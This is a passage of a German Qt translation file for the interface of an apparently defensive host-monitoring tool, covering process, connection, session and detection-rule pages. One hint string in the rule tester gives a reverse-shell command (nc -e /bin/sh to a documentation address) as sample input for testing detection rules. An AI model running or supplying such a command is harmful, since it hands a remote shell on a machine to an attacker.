        <translation>Davon ist jetzt nichts da.</translation>
    </message>
    <message>
        <source>Nothing matches “%1”.</source>
        <translation>Nichts passt zu „%1“.</translation>
    </message>
</context>
<context>
    <name>ui::LiveValues</name>
    <message>
        <source>Now at most %1, %2</source>
        <translation>Jetzt höchstens %1, %2</translation>
    </message>
</context>
<context>
    <name>ui::MainWindow</name>
    <message>
        <source>Overview</source>
        <translation>Übersicht</translation>
    </message>
    <message>
        <source>Alerts</source>
        <translation>Alarme</translation>
    </message>
    <message>
        <source>Processes</source>
        <translation>Prozesse</translation>
    </message>
    <message>
        <source>Helper %1</source>
        <translation>Helfer %1</translation>
    </message>
    <message>
        <source>Network</source>
        <translation>Netzwerk</translation>
    </message>
    <message>
        <source>Files</source>
        <translation>Dateien</translation>
    </message>
    <message>
        <source>Sessions</source>
        <translation>Sitzungen</translation>
    </message>
    <message>
        <source>Rules</source>
        <translation>Regeln</translation>
    </message>
    <message>
        <source>Settings</source>
        <translation>Optionen</translation>
    </message>
</context>
<context>
    <name>ui::MemoryPanel</name>
    <message>
        <source>Memory</source>
        <translation>Speicher</translation>
    </message>
    <message>
        <source>Memory over time</source>
        <translation>Speicher im Verlauf</translation>
    </message>
    <message>
        <source>of %1 used</source>
        <translation>von %1 benutzt</translation>
    </message>
    <message>
        <source>Used</source>
        <translation>Benutzt</translation>
    </message>
    <message>
        <source>Cache</source>
        <translation>Cache</translation>
    </message>
    <message>
        <source>Swap</source>
        <translation>Swap</translation>
    </message>
    <message>
        <source>Now %1 %2, cache %3, swap %4</source>
        <translation>Jetzt %1 %2, Cache %3, Swap %4</translation>
    </message>
</context>
<context>
    <name>ui::ModeStep</name>
    <message>
        <source>What happens on danger</source>
        <translation>Was bei Gefahr geschieht</translation>
    </message>
    <message>
        <source>This can be changed at any time, in the window&apos;s upper right corner or in the menu of the shield.</source>
        <translation>Das lässt sich jederzeit ändern, oben rechts im Fenster oder im Menü des Schilds.</translation>
    </message>
    <message>
        <source>Learn first what is usual here</source>
        <translation>Erst lernen, was hier üblich ist</translation>
    </message>
    <message>
        <source>%1 (proposed)</source>
        <translation>%1 (vorgeschlagen)</translation>
    </message>
    <message>
        <source>Days of learning</source>
        <translation>Tage der Lernzeit</translation>
    </message>
    <message>
        <source> days</source>
        <translation> Tage</translation>
    </message>
    <message>
        <source>Programs, listeners and places that are new are collected without a word; at the end there is a report. Dangerous behaviour is told from the first minute on.</source>
        <translation>Neue Programme, Lauscher und Orte werden still gesammelt; am Ende gibt es einen Bericht. Gefährliches Verhalten wird von der ersten Minute an gemeldet.</translation>
    </message>
</context>
<context>
    <name>ui::NavigationRail</name>
    <message>
        <source>Pages</source>
        <translation>Seiten</translation>
    </message>
    <message>
        <source>%1 (Ctrl+%2)</source>
        <translation>%1 (Strg+%2)</translation>
    </message>
</context>
<context>
    <name>ui::NetworkPage</name>
    <message>
        <source>Connections</source>
        <translation>Verbindungen</translation>
    </message>
    <message>
        <source>Reading the connections…</source>
        <translation>Die Verbindungen werden gelesen…</translation>
    </message>
    <message>
        <source>No connections</source>
        <translation>Keine Verbindungen</translation>
    </message>
    <message>
        <source>No program speaks with another computer, and none waits for callers.</source>
        <translation>Kein Programm spricht mit einem anderen Rechner, und keines wartet auf Anrufer.</translation>
    </message>
    <message>
        <source>No connections to show</source>
        <translation>Keine Verbindungen zu zeigen</translation>
    </message>
    <message>
        <source>You may not see the connections</source>
        <translation>Sie dürfen die Verbindungen nicht sehen</translation>
    </message>
    <message>
        <source>Which connections</source>
        <translation>Welche Verbindungen</translation>
    </message>
    <message>
        <source>All</source>
        <translation>Alle</translation>
    </message>
    <message>
        <source>Listeners</source>
        <translation>Lauscher</translation>
    </message>
    <message>
        <source>Show process</source>
        <translation>Prozess zeigen</translation>
    </message>
    <message>
        <source>Show who holds it on the page of processes</source>
        <translation>Auf der Seite der Prozesse zeigen, wem sie gehört</translation>
    </message>
    <message>
        <source>Copy</source>
        <translation>Kopieren</translation>
    </message>
    <message>
        <source>Copy the chosen rows as text</source>
        <translation>Die gewählten Zeilen als Text kopieren</translation>
    </message>
    <message>
        <source>Trust…</source>
        <translation>Vertrauen…</translation>
    </message>
    <message>
        <source>Let this program speak with this peer from now on</source>
        <translation>Dieses Programm von jetzt an mit dieser Gegenstelle sprechen lassen</translation>
    </message>
    <message>
        <source>Drop…</source>
        <translation>Trennen…</translation>
    </message>
    <message>
        <source>Cut the connection; the program may open another</source>
        <translation>Die Verbindung trennen; das Programm kann eine andere öffnen</translation>
    </message>
    <message>
        <source>Block…</source>
        <translation>Sperren…</translation>
    </message>
    <message>
        <source>Keep the address out, both ways, for some time</source>
        <translation>Die Adresse in beide Richtungen eine Zeit lang fernhalten</translation>
    </message>
    <message>
        <source>As long as is set</source>
        <translation>So lange wie eingestellt</translation>
    </message>
    <message>
        <source>1 hour</source>
        <translation>1 Stunde</translation>
    </message>
    <message>
        <source>1 day</source>
        <translation>1 Tag</translation>
    </message>
    <message>
        <source>30 days</source>
        <translation>30 Tage</translation>
    </message>
    <message>
        <source>%1 connections</source>
        <translation>%1 Verbindungen</translation>
    </message>
    <message>
        <source>%1 listeners</source>
        <translation>%1 Lauscher</translation>
    </message>
    <message>
        <source>%1 reachable by anybody</source>
        <translation>%1 für jeden erreichbar</translation>
    </message>
    <message>
        <source>%1 chosen</source>
        <translation>%1 gewählt</translation>
    </message>
    <message>
        <source>Drop this connection?</source>
        <translation>Diese Verbindung trennen?</translation>
    </message>
    <message>
        <source>Drop %1 connections?</source>
        <translation>%1 Verbindungen trennen?</translation>
    </message>
    <message>
        <source>It is cut at once and the other end is told. The program goes on running and may open another; block the address to keep it out.</source>
        <translation>Sie wird sofort getrennt, und die andere Seite erfährt es. Das Programm läuft weiter und kann eine andere öffnen; sperren Sie die Adresse, um sie fernzuhalten.</translation>
    </message>
    <message>
        <source>What was under way on it, such as a download, ends.</source>
        <translation>Was gerade darüber läuft, etwa ein Download, endet.</translation>
    </message>
    <message>
        <source>Drop</source>
        <translation>Trennen</translation>
    </message>
    <message>
        <source>for as long as is set</source>
        <translation>so lange wie eingestellt</translation>
    </message>
    <message>
        <source>for %1</source>
        <translation>für %1</translation>
    </message>
    <message>
        <source>Block %1?</source>
        <translation>%1 sperren?</translation>
    </message>
    <message>
        <source>Block %1 addresses?</source>
        <translation>%1 Adressen sperren?</translation>
    </message>
    <message>
        <source>Nothing on this computer can speak with it, nor it with anything here, %1. It can be let in again at any time.</source>
        <translation>Nichts auf diesem Rechner kann mit ihr sprechen, noch sie mit etwas hier, %1. Sie kann jederzeit wieder freigegeben werden.</translation>
    </message>
    <message>
        <source>Connections with it that are open now stop.</source>
        <translation>Jetzt offene Verbindungen mit ihr enden.</translation>
    </message>
    <message>
        <source>Block</source>
        <translation>Sperren</translation>
    </message>
    <message>
        <source>1 connection</source>
        <translation>1 Verbindung</translation>
    </message>
    <message>
        <source>1 listener</source>
        <translation>1 Lauscher</translation>
    </message>
</context>
<context>
    <name>ui::OverviewPage</name>
    <message>
        <source>Time range</source>
        <translation>Zeitraum</translation>
    </message>
    <message>
        <source>60 s</source>
        <translation>60 s</translation>
    </message>
    <message>
        <source>10 min</source>
        <translation>10 min</translation>
    </message>
    <message>
        <source>24 h</source>
        <translation>24 h</translation>
    </message>
    <message>
        <source>Overview</source>
        <translation>Übersicht</translation>
    </message>
    <message>
        <source>Nothing is being watched</source>
        <translation>Nichts wird beobachtet</translation>
    </message>
    <message>
        <source>The helper does not answer.</source>
        <translation>Der Helfer antwortet nicht.</translation>
    </message>
    <message>
        <source>You may not see this</source>
        <translation>Sie dürfen dies nicht sehen</translation>
    </message>
    <message>
        <source>Nothing to show</source>
        <translation>Nichts zu zeigen</translation>
    </message>
    <message>
        <source>Connecting to the helper…</source>
        <translation>Verbindung zum Helfer…</translation>
    </message>
</context>
<context>
    <name>ui::ProcessActions</name>
    <message>
        <source>Details…</source>
        <translation>Einzelheiten…</translation>
    </message>
    <message>
        <source>Descriptors, sockets, maps and environment</source>
        <translation>Deskriptoren, Sockets, Abbildungen und Umgebung</translation>
    </message>
    <message>
        <source>Copy</source>
        <translation>Kopieren</translation>
    </message>
    <message>
        <source>Copy the chosen rows as text</source>
        <translation>Die gewählten Zeilen als Text kopieren</translation>
    </message>
    <message>
        <source>Suspend</source>
        <translation>Anhalten</translation>
    </message>
    <message>
        <source>Stop it where it is; it can go on later</source>
        <translation>Stehen lassen, wo es ist; es kann später weiterlaufen</translation>
    </message>
    <message>
        <source>Resume</source>
        <translation>Fortsetzen</translation>
    </message>
    <message>
        <source>Let it run again</source>
        <translation>Wieder laufen lassen</translation>
    </message>
    <message>
        <source>Terminate…</source>
        <translation>Beenden…</translation>
    </message>
    <message>
        <source>Ask it to end, kill it if it does not</source>
        <translation>Zum Enden auffordern, erzwingen, wenn es nicht folgt</translation>
    </message>
    <message>
        <source>Kill tree…</source>
        <translation>Baum…</translation>
    </message>
    <message>
        <source>End it and everything below it</source>
        <translation>Mit allem darunter beenden</translation>
    </message>
    <message>
        <source>Let it run again (Space)</source>
        <translation>Wieder laufen lassen (Leertaste)</translation>
    </message>
    <message>
        <source>Stop it where it is; it can go on later (Space)</source>
        <translation>Stehen lassen, wo es ist; es kann später weiterlaufen (Leertaste)</translation>
    </message>
    <message>
        <source>%1 processes</source>
        <translation>%1 Prozesse</translation>
    </message>
    <message>
        <source>What these programs have not saved is lost. This cannot be undone.</source>
        <translation>Was diese Programme nicht gespeichert haben, geht verloren. Das lässt sich nicht rückgängig machen.</translation>
    </message>
    <message>
        <source>Kill %1 and everything below?</source>
        <translation>%1 mit allem darunter beenden?</translation>
    </message>
    <message>
        <source>%1 processes are asked to end, and killed if they do not within the grace period. New children are found and ended too.</source>
        <translation>%1 Prozesse werden zum Enden aufgefordert; wer nicht rechtzeitig folgt, wird beendet. Neue Kindprozesse werden gefunden und auch beendet.</translation>
    </message>
    <message>
        <source>Kill tree</source>
        <translation>Baum beenden</translation>
    </message>
    <message>
        <source>Terminate %1?</source>
        <translation>%1 beenden?</translation>
    </message>
    <message>
        <source>It is asked to end, and killed if it does not within the grace period. Processes below it go on running.</source>
        <translation>Er wird zum Enden aufgefordert und beendet, wenn er nicht rechtzeitig folgt. Prozesse darunter laufen weiter.</translation>
    </message>
    <message>
        <source>Each is asked to end, and killed if it does not within the grace period. Processes below them go on running.</source>
        <translation>Jeder wird zum Enden aufgefordert und beendet, wenn er nicht rechtzeitig folgt. Prozesse darunter laufen weiter.</translation>
    </message>
    <message>
        <source>Terminate</source>
        <translation>Beenden</translation>
    </message>
    <message>
        <source>Save memory…</source>
        <translation>Speicher sichern…</translation>
    </message>
    <message>
        <source>Save what it holds in memory, to look into it later</source>
        <translation>Sichern, was es im Speicher hält, um später hineinzusehen</translation>
    </message>
</context>
<context>
    <name>ui::ProcessColumns</name>
    <message>
        <source>Name</source>
        <translation>Name</translation>
    </message>
    <message>
        <source>Program name as the kernel knows it</source>
        <translation>Programmname, wie ihn der Kernel kennt</translation>
    </message>
    <message>
        <source>PID</source>
        <translation>PID</translation>
    </message>
    <message>
        <source>Process number</source>
        <translation>Prozessnummer</translation>
    </message>
    <message>
        <source>User</source>
        <translation>Benutzer</translation>
    </message>
    <message>
        <source>On whose behalf it runs</source>
        <translation>In wessen Auftrag er läuft</translation>
    </message>
    <message>
        <source>CPU</source>
        <translation>CPU</translation>
    </message>
    <message>
        <source>Processor time, of the whole machine</source>
        <translation>Prozessorzeit, vom ganzen Rechner</translation>
    </message>
    <message>
        <source>Memory</source>
        <translation>Speicher</translation>
    </message>
    <message>
        <source>Resident memory</source>
        <translation>Belegter Arbeitsspeicher</translation>
    </message>
    <message>
        <source>I/O</source>
        <translation>E/A</translation>
    </message>
    <message>
        <source>Read and written, bytes a second</source>
        <translation>Gelesen und geschrieben, Bytes in der Sekunde</translation>
    </message>
    <message>
        <source>Threads</source>
        <translation>Threads</translation>
    </message>
    <message>
        <source>Files</source>
        <translation>Dateien</translation>
    </message>
    <message>
        <source>Open descriptors; – where they cannot be read</source>
        <translation>Offene Deskriptoren; – wo sie nicht lesbar sind</translation>
    </message>
    <message>
        <source>Package</source>
        <translation>Paket</translation>
    </message>
    <message>
        <source>The installed package its executable belongs to</source>
        <translation>Das installierte Paket, zu dem die Programmdatei gehört</translation>
    </message>
    <message>
        <source>State</source>
        <translation>Zustand</translation>
    </message>
    <message>
        <source>What it is doing now</source>
        <translation>Was er jetzt tut</translation>
    </message>
    <message>
        <source>Running</source>
        <translation>Läuft</translation>
    </message>
    <message>
        <source>Sleeping</source>
        <translation>Schläft</translation>
    </message>
    <message>
        <source>Waiting for disk</source>
        <translation>Wartet auf Platte</translation>
    </message>
    <message>
        <source>Stopped</source>
        <translation>Steht</translation>
    </message>
    <message>
        <source>Being debugged</source>
        <translation>Wird untersucht</translation>
    </message>
    <message>
        <source>Ended (zombie)</source>
        <translation>Beendet (Zombie)</translation>
    </message>
    <message>
        <source>Ended</source>
        <translation>Beendet</translation>
    </message>
    <message>
        <source>Idle</source>
        <translation>Untätig</translation>
    </message>
    <message>
        <source>unknown</source>
        <translation>unbekannt</translation>
    </message>
    <message>
        <source>unnamed</source>
        <translation>namenlos</translation>
    </message>
    <message>
        <source>%1 of the machine, %2 of one core</source>
        <translation>%1 vom Rechner, %2 von einem Kern</translation>
    </message>
    <message>
        <source>%1 resident, %2 of the machine</source>
        <translation>%1 belegt, %2 vom Rechner</translation>
    </message>
    <message>
        <source>%1, %2 operations a second</source>
        <translation>%1, %2 Zugriffe in der Sekunde</translation>
    </message>
    <message>
        <source>Suspended</source>
        <translation>Angehalten</translation>
    </message>
    <message>
        <source>Connections</source>
        <translation>Verbindungen</translation>
    </message>
    <message>
        <source>Open network connections</source>
        <translation>Offene Netzwerkverbindungen</translation>
    </message>
</context>
<context>
    <name>ui::ProcessDetailsDialog</name>
    <message>
        <source>Details of %1</source>
        <translation>Einzelheiten von %1</translation>
    </message>
    <message>
        <source>Asking the helper…</source>
        <translation>Der Helfer wird gefragt…</translation>
    </message>
    <message>
        <source>Copy as JSON</source>
        <translation>Als JSON kopieren</translation>
    </message>
    <message>
        <source>Close</source>
        <translation>Schließen</translation>
    </message>
    <message>
        <source>The answer cannot be read: %1</source>
        <translation>Die Antwort ist nicht lesbar: %1</translation>
    </message>
    <message>
        <source>You may not see this</source>
        <translation>Sie dürfen dies nicht sehen</translation>
    </message>
    <message>
        <source>No details</source>
        <translation>Keine Einzelheiten</translation>
    </message>
</context>
<context>
    <name>ui::ProcessPage</name>
    <message>
        <source>Arrangement</source>
        <translation>Anordnung</translation>
    </message>
    <message>
        <source>Tree</source>
        <translation>Baum</translation>
    </message>
    <message>
        <source>Flat</source>
        <translation>Liste</translation>
    </message>
    <message>
        <source>Search</source>
        <translation>Suchen</translation>
    </message>
    <message>
        <source>Search processes</source>
        <translation>Prozesse suchen</translation>
    </message>
    <message>
        <source>%1 processes</source>
        <translation>%1 Prozesse</translation>
    </message>
    <message>
        <source>%1 chosen</source>
        <translation>%1 gewählt</translation>
    </message>
    <message>
        <source>You may not see the processes</source>
        <translation>Sie dürfen die Prozesse nicht sehen</translation>
    </message>
    <message>
        <source>No processes to show</source>
        <translation>Keine Prozesse zu zeigen</translation>
    </message>
    <message>
        <source>Reading the processes…</source>
        <translation>Die Prozesse werden gelesen…</translation>
    </message>
    <message>
        <source>Nothing found</source>
        <translation>Nichts gefunden</translation>
    </message>
    <message>
        <source>No process matches “%1”.</source>
        <translation>Kein Prozess passt zu „%1“.</translation>
    </message>
    <message>
        <source>No processes</source>
        <translation>Keine Prozesse</translation>
    </message>
    <message>
        <source>The helper sees none in its scope.</source>
        <translation>Der Helfer sieht keine in seinem Bereich.</translation>
    </message>
    <message>
        <source>1 process</source>
        <translation>1 Prozess</translation>
    </message>
</context>
<context>
    <name>ui::ProcessView</name>
    <message>
        <source>Processes</source>
        <translation>Prozesse</translation>
    </message>
</context>
<context>
    <name>ui::ProgramHoursPanel</name>
    <message>
        <source>Processor, % of a core</source>
        <translation>Prozessor, % eines Kerns</translation>
    </message>
    <message>
        <source>Memory</source>
        <translation>Speicher</translation>
    </message>
    <message>
        <source>All processes of %1 in the last 24 hours: at most %2 of a core and %3.</source>
        <translation>Alle Prozesse von %1 in den letzten 24 Stunden: höchstens %2 eines Kerns und %3.</translation>
    </message>
    <message>
        <source>%1 has used little since the helper was started: its hours are not kept.</source>
        <translation>%1 hat seit dem Start des Helfers wenig gebraucht: Seine Stunden werden nicht aufbewahrt.</translation>
    </message>
</context>
<context>
    <name>ui::RailButton</name>
    <message>
        <source>%1 to look at</source>
        <translation>%1 anzusehen</translation>
    </message>
</context>
<context>
    <name>ui::ResponseList</name>
    <message>
        <source>Nothing was done, it was only recorded.</source>
        <translation>Es wurde nichts getan, nur aufgezeichnet.</translation>
    </message>
</context>
<context>
    <name>ui::ResultBar</name>
    <message>
        <source>Close the message</source>
        <translation>Die Meldung schließen</translation>
    </message>
    <message>
        <source>Undo</source>
        <translation>Rückgängig</translation>
    </message>
</context>
<context>
    <name>ui::RuleDetails</name>
    <message>
        <source>Look for this</source>
        <translation>Danach suchen</translation>
    </message>
    <message>
        <source>When it is certain</source>
        <translation>Wenn es sicher ist</translation>
    </message>
    <message>
        <source>Response</source>
        <translation>Reaktion</translation>
    </message>
    <message>
        <source>Techniques</source>
        <translation>Techniken</translation>
    </message>
    <message>
        <source>Looks at</source>
        <translation>Sieht auf</translation>
    </message>
    <message>
        <source>May also be</source>
        <translation>Kann auch sein</translation>
    </message>
    <message>
        <source>File</source>
        <translation>Datei</translation>
    </message>
    <message>
        <source>Id</source>
        <translation>Kennung</translation>
    </message>
    <message>
        <source>No rule chosen</source>
        <translation>Keine Regel gewählt</translation>
    </message>
    <message>
        <source>Choose a rule to see what it means and what is done then.</source>
        <translation>Wählen Sie eine Regel, um zu sehen, was sie bedeutet und was dann getan wird.</translation>
    </message>
</context>
<context>
    <name>ui::RuleTableModel</name>
    <message>
        <source>Rule</source>
        <translation>Regel</translation>
    </message>
    <message>
        <source>What is looked for</source>
        <translation>Wonach gesucht wird</translation>
    </message>
    <message>
        <source>Level</source>
        <translation>Stufe</translation>
    </message>
    <message>
        <source>How grave it is when it is found</source>
        <translation>Wie schwer es wiegt, wenn es gefunden wird</translation>
    </message>
    <message>
        <source>Response</source>
        <translation>Reaktion</translation>
    </message>
    <message>
        <source>What is done when it is certain</source>
        <translation>Was getan wird, wenn es sicher ist</translation>
    </message>
    <message>
        <source>Hits</source>
        <translation>Treffer</translation>
    </message>
    <message>
        <source>Found since the helper was started</source>
        <translation>Gefunden, seit der Helfer gestartet wurde</translation>
    </message>
    <message>
        <source>State</source>
        <translation>Zustand</translation>
    </message>
    <message>
        <source>Whether it is looked for at all</source>
        <translation>Ob überhaupt danach gesucht wird</translation>
    </message>
    <message>
        <source>On</source>
        <translation>An</translation>
    </message>
    <message>
        <source>Off</source>
        <translation>Aus</translation>
    </message>
</context>
<context>
    <name>ui::RuleTestBox</name>
    <message>
        <source>Would it be found?</source>
        <translation>Würde es gefunden?</translation>
    </message>
    <message>
        <source>Test</source>
        <translation>Prüfen</translation>
    </message>
    <message>
        <source>Paste a command line</source>
        <translation>Befehlszeile einfügen</translation>
    </message>
    <message>
        <source>Command line to test</source>
        <translation>Zu prüfende Befehlszeile</translation>
    </message>
    <message>
        <source>Test the command line</source>
        <translation>Die Befehlszeile prüfen</translation>
    </message>
    <message>
        <source>From an alert ▾</source>
        <translation>Aus einem Alarm ▾</translation>
    </message>
    <message>
        <source>Take the program of an alert</source>
        <translation>Das Programm eines Alarms nehmen</translation>
    </message>
    <message>
        <source>It is held against the rules of files. Nothing is run.</source>
        <translation>Sie wird gegen die Regeln aus Dateien gehalten. Nichts wird ausgeführt.</translation>
    </message>
    <message>
        <source>No alert has a program yet</source>
        <translation>Noch hat kein Alarm ein Programm</translation>
    </message>
    <message>
        <source>Paste a command line first, such as: nc -e /bin/sh 192.0.2.1 4444</source>
        <translation>Fügen Sie zuerst eine Befehlszeile ein, etwa: nc -e /bin/sh 192.0.2.1 4444</translation>
    </message>
    <message>
        <source>Testing…</source>
        <translation>Wird geprüft…</translation>
    </message>
    <message>
        <source>No rule of a file matches. Behaviour, such as a shell with a socket, is judged only while it happens.</source>
        <translation>Keine Regel aus einer Datei passt. Verhalten, etwa eine Shell mit einem Socket, wird nur beurteilt, während es geschieht.</translation>
    </message>
    <message>
        <source>One rule matches:</source>
        <translation>Eine Regel passt:</translation>
    </message>
    <message>
        <source>%1 rules match:</source>
        <translation>%1 Regeln passen:</translation>
    </message>
    <message>
        <source>and %1 more</source>
        <translation>und %1 weitere</translation>
    </message>
    <message>
        <source>Show the rule %1</source>
        <translation>Die Regel %1 zeigen</translation>
    </message>
</context>
<context>
    <name>ui::RuleText</name>
    <message>
        <source>Info</source>
        <translation>Info</translation>
    </message>
    <message>
        <source>Informational</source>
        <translation>Zur Kenntnis</translation>
    </message>
    <message>
        <source>Low</source>
        <translation>Niedrig</translation>
    </message>
    <message>
        <source>Medium</source>
        <translation>Mittel</translation>
    </message>
    <message>
        <source>Warning</source>
        <translation>Warnung</translation>
    </message>
    <message>
        <source>High</source>
        <translation>Hoch</translation>
    </message>
    <message>
        <source>Alert</source>
        <translation>Alarm</translation>
    </message>
    <message>
        <source>Critical</source>
        <translation>Kritisch</translation>
    </message>
    <message>
        <source>Error</source>
        <translation>Fehler</translation>
    </message>
    <message>
        <source>Write it down</source>
        <translation>Aufschreiben</translation>
    </message>
    <message>
        <source>Tell me</source>
        <translation>Mir melden</translation>
    </message>
    <message>
        <source>Suspend</source>
        <translation>Anhalten</translation>
    </message>
    <message>
        <source>Drop connection</source>
        <translation>Verbindung trennen</translation>
    </message>
    <message>
        <source>Block address</source>
        <translation>Adresse sperren</translation>
    </message>
    <message>
        <source>Kill</source>
        <translation>Beenden</translation>
    </message>
    <message>
        <source>Kill with children</source>
        <translation>Mit Kindern beenden</translation>
    </message>
    <message>
        <source>Built in</source>
        <translation>Eingebaut</translation>
    </message>
</context>
<context>
    <name>ui::RulesPage</name>
    <message>
        <source>Rules</source>
        <translation>Regeln</translation>
    </message>
    <message>
        <source>Reading the rules…</source>
        <translation>Die Regeln werden gelesen…</translation>
    </message>
    <message>
        <source>No rules</source>
        <translation>Keine Regeln</translation>
    </message>
    <message>
        <source>The helper looks for nothing. Its rule files may be missing.</source>
        <translation>Der Helfer sucht nach nichts. Vielleicht fehlen seine Regeldateien.</translation>
    </message>
    <message>
        <source>No rules to show</source>
        <translation>Keine Regeln zu zeigen</translation>
    </message>
    <message>
        <source>You may not see the rules</source>
        <translation>Sie dürfen die Regeln nicht sehen</translation>
    </message>
    <message>
        <source>Which rules</source>
        <translation>Welche Regeln</translation>
    </message>
    <message>
        <source>All</source>
        <translation>Alle</translation>
    </message>
    <message>
        <source>Built in</source>
        <translation>Eingebaut</translation>
    </message>
    <message>
        <source>Sigma</source>
        <translation>Sigma</translation>
    </message>
    <message>
        <source>Off</source>
        <translation>Aus</translation>
    </message>
    <message>
        <source>Switch off</source>
        <translation>Ausschalten</translation>
    </message>
    <message>
        <source>Look for this, or no longer</source>
        <translation>Danach suchen oder nicht mehr</translation>
    </message>
    <message>
        <source>Read files again</source>
        <translation>Neu lesen</translation>
    </message>
    <message>
        <source>Read the rule files again; those that cannot be used are named</source>
        <translation>Die Regeldateien neu lesen; unbrauchbare werden genannt</translation>
    </message>
    <message>
        <source>Switch on</source>
        <translation>Einschalten</translation>
    </message>
    <message>
        <source>%1 rules</source>
        <translation>%1 Regeln</translation>
    </message>
    <message>
        <source>%1 off</source>
        <translation>%1 aus</translation>
    </message>
    <message>
        <source>Kill programs by this rule?</source>
        <translation>Programme durch diese Regel beenden?</translation>
    </message>
    <message>
        <source>Whatever this rule is certain of is killed: after a question in the mode Ask, at once in the mode Enforce. A rule that is wrong then kills what you need.</source>
        <translation>Wessen diese Regel sicher ist, das wird beendet: im Modus Fragen nach einer Frage, im Modus Durchsetzen sofort. Eine Regel, die irrt, beendet dann, was Sie brauchen.</translation>
    </message>
    <message>
        <source>Kill from now on</source>
        <translation>Von jetzt an beenden</translation>
    </message>
    <message>
        <source>1 rule</source>
        <translation>1 Regel</translation>
    </message>
</context>
<context>
    <name>ui::SessionTableModel</name>
    <message>
        <source>User</source>
        <translation>Benutzer</translation>
    </message>
    <message>
        <source>Who is logged in</source>
        <translation>Wer angemeldet ist</translation>
    </message>
    <message>
        <source>From</source>
        <translation>Von</translation>
    </message>
    <message>
        <source>The computer the login came from</source>
        <translation>Der Rechner, von dem die Anmeldung kam</translation>
    </message>
    <message>
        <source>Where</source>
        <translation>Wo</translation>
    </message>
    <message>
        <source>Terminal or seat</source>
        <translation>Terminal oder Arbeitsplatz</translation>
    </message>
    <message>
        <source>How</source>
        <translation>Wie</translation>
    </message>
    <message>
        <source>Which service let them in</source>
        <translation>Welcher Dienst den Zugang gab</translation>
    </message>
    <message>
        <source>Began</source>
        <translation>Beginn</translation>
    </message>
    <message>
        <source>When the login was</source>
        <translation>Wann die Anmeldung war</translation>
    </message>
    <message>
        <source>Ended</source>
        <translation>Beendet</translation>
    </message>
    <message>
        <source>When the session was over</source>
        <translation>Wann die Sitzung vorbei war</translation>
    </message>
    <message>
        <source>Lasted</source>
        <translation>Dauer</translation>
    </message>
    <message>
        <source>From its beginning to its end, or until now</source>
        <translation>Vom Beginn bis zum Ende oder bis jetzt</translation>
    </message>
    <message>
        <source>State</source>
        <translation>Zustand</translation>
    </message>
    <message>
        <source>Whether it goes on</source>
        <translation>Ob sie andauert</translation>
    </message>
</context>
<context>
    <name>ui::SessionText</name>
    <message>
        <source>ssh</source>
        <translation>ssh</translation>
    </message>
    <message>
        <source>Console</source>
        <translation>Konsole</translation>
    </message>
    <message>
        <source>Desktop</source>
        <translation>Arbeitsfläche</translation>
    </message>
    <message>
        <source>this computer</source>
        <translation>dieser Rechner</translation>
    </message>
    <message>
        <source>no terminal</source>
        <translation>ohne Terminal</translation>
    </message>
    <message>
        <source>Goes on</source>
        <translation>Dauert an</translation>
    </message>
    <message>
        <source>End not seen</source>
        <translation>Ende nicht gesehen</translation>
    </message>
    <message>
        <source>Ended</source>
        <translation>Beendet</translation>
    </message>
</context>
<context>
    <name>ui::SessionsPage</name>
    <message>
        <source>Sessions</source>
        <translation>Sitzungen</translation>
    </message>
    <message>
        <source>Reading the sessions…</source>
        <translation>Die Sitzungen werden gelesen…</translation>
    </message>
    <message>
        <source>No sessions</source>
        <translation>Keine Sitzungen</translation>
    </message>
    <message>
        <source>No login has been seen yet. Sessions of others are shown with “Everybody&apos;s”.</source>
        <translation>Noch wurde keine Anmeldung gesehen. Die Sitzungen anderer zeigt „Alle Benutzer“.</translation>
    </message>
    <message>
        <source>No sessions to show</source>
        <translation>Keine Sitzungen zu zeigen</translation>
    </message>
    <message>
        <source>You may not see the sessions</source>
        <translation>Sie dürfen die Sitzungen nicht sehen</translation>
    </message>
    <message>
        <source>Which sessions</source>
        <translation>Welche Sitzungen</translation>
    </message>
    <message>
        <source>All</source>
        <translation>Alle</translation>
    </message>
    <message>
        <source>Now</source>
        <translation>Jetzt</translation>
    </message>
    <message>
        <source>Copy</source>
        <translation>Kopieren</translation>
    </message>
    <message>
        <source>Copy the chosen rows as text</source>
        <translation>Die gewählten Zeilen als Text kopieren</translation>
    </message>
    <message>
        <source>Everybody&apos;s</source>
        <translation>Alle Benutzer</translation>
    </message>
    <message>
        <source>Show the sessions of others too; a password may be asked for</source>
        <translation>Auch die Sitzungen anderer zeigen; vielleicht wird ein Passwort verlangt</translation>
    </message>
    <message>
        <source>%1 sessions</source>
        <translation>%1 Sitzungen</translation>
    </message>
    <message>
        <source>%1 go on</source>
        <translation>%1 dauern an</translation>
    </message>
    <message>
        <source>%1 from elsewhere</source>
        <translation>%1 von anderswo</translation>
    </message>
    <message>
        <source>1 session</source>
        <translation>1 Sitzung</translation>
    </message>
    <message>
        <source>1 goes on</source>
        <translation>1 dauert an</translation>
    </message>
</context>
<context>
    <name>ui::SettingEditor</name>
    <message>
        <source>On</source>
        <translation>An</translation>
    </message>
    <message>
        <source>One entry a line</source>
        <translation>Ein Eintrag je Zeile</translation>
    </message>
    <message>
        <source>%1 lists</source>
        <translation>%1 Listen</translation>
    </message>
    <message>
        <source>Off</source>
        <translation>Aus</translation>
    </message>
    <message>
        <source>not set</source>
        <translation>nicht gesetzt</translation>
    </message>
</context>
<context>
    <name>ui::SettingPanel</name>
    <message>
        <source>Save</source>
        <translation>Speichern</translation>
    </message>
    <message>
        <source>Save %1</source>
        <translation>%1 speichern</translation>
    </message>
    <message>
        <source>Discard</source>
        <translation>Verwerfen</translation>
    </message>
    <message>
        <source>Discard the change of %1</source>
        <translation>Die Änderung von %1 verwerfen</translation>
    </message>
    <message>
        <source>Reset</source>
        <translation>Vorgabe</translation>
    </message>
    <message>
        <source>Reset %1 to its default</source>
        <translation>%1 auf die Vorgabe setzen</translation>
    </message>
    <message>
        <source>Only in the configuration file, by an administrator.</source>
        <translation>Nur in der Konfigurationsdatei, durch einen Verwalter.</translation>
    </message>
    <message>
        <source>%1; usually %2</source>
        <translation>%1; üblich %2</translation>
    </message>
</context>
<context>
    <name>ui::SettingText</name>
    <message>
        <source>Observe</source>
        <translation>Beobachten</translation>
    </message>
    <message>
        <source>Ask</source>
        <translation>Fragen</translation>
    </message>
    <message>
        <source>Enforce</source>
        <translation>Durchsetzen</translation>
    </message>
    <message>
        <source>What the rule says</source>
        <translation>Was die Regel sagt</translation>
    </message>
    <message>
        <source>Let it go on</source>
        <translation>Weiterlaufen lassen</translation>
    </message>
    <message>
        <source>Keep it suspended</source>
        <translation>Angehalten lassen</translation>
    </message>
    <message>
        <source>Alert</source>
